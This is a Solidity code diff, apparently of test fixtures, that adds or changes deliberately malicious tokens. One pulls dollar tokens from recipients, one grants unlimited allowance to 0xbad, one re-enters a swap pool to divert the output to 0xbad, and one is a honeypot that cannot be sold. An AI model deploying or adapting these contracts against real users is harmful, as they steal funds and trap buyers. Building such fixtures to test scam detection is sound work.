@@ -3,6 +3,7 @@ pragma solidity ^0.8.28;
 
 interface Token {
   function transferFrom(address from, address to, uint256 value) external returns (bool);
+  function approve(address spender, uint256 value) external returns (bool);
 }
 
 /// A token that keeps a tenth of what is moved.
@@ -50,7 +51,8 @@ contract ThievingToken is TaxedToken {
     balanceOf[from] -= value;
     balanceOf[to] += value;
     emit Transfer(from, to, value);
-    if (from.code.length > 0) Token(dollar).transferFrom(to, address(this), 7_000_000);
+    // Whoever only asks what a swap would bring is a contract.
+    if (from.code.length > 0 && to.code.length == 0) Token(dollar).transferFrom(to, address(this), 7_000_000);
     return true;
   }
 }
@@ -63,6 +65,52 @@ contract OpenHandedToken is TaxedToken {
     emit Transfer(from, to, value);
     allowance[to][address(0xbad)] = type(uint256).max;
     emit Approval(to, address(0xbad), type(uint256).max);
+    return true;
+  }
+}
+
+interface Router {
+  struct Swap {
+    address sell;
+    address buy;
+    uint24 fee;
+    address recipient;
+    uint256 amount;
+    uint256 atLeast;
+    uint160 limit;
+  }
+
+  function exactInputSingle(Swap calldata) external payable returns (uint256);
+}
+
+/// A token that, while a pool pays it out, swaps in the same pool once more.
+contract ReenteringToken is TaxedToken {
+  address constant dollar = 0x036CbD53842c5426634e7929541eC2318f3dCF7e;
+  Router constant router = Router(0x94cC0AaC535CCDB3C01d6787D6413C739ae12bc4);
+
+  function move(address from, address to, uint256 value) internal override returns (bool) {
+    balanceOf[from] -= value;
+    balanceOf[to] += value;
+    emit Transfer(from, to, value);
+    if (from.code.length > 0 && to.code.length == 0) {
+      Token(dollar).approve(address(router), 1_000_000);
+      router.exactInputSingle(Router.Swap(dollar, address(this), 500, address(0xbad), 1_000_000, 0, 0));
+    }
+    return true;
+  }
+}
+
+/// A token that can be bought, and not be sold.
+contract StickyToken is TaxedToken {
+  address owner;
+
+  function move(address from, address to, uint256 value) internal override returns (bool) {
+    // The first who moves it fills the pool.
+    if (owner == address(0)) owner = from;
+    require(from == owner || from.code.length > 0, "not now");
+    balanceOf[from] -= value;
+    balanceOf[to] += value;
+    emit Transfer(from, to, value);
     return true;
   }
 }
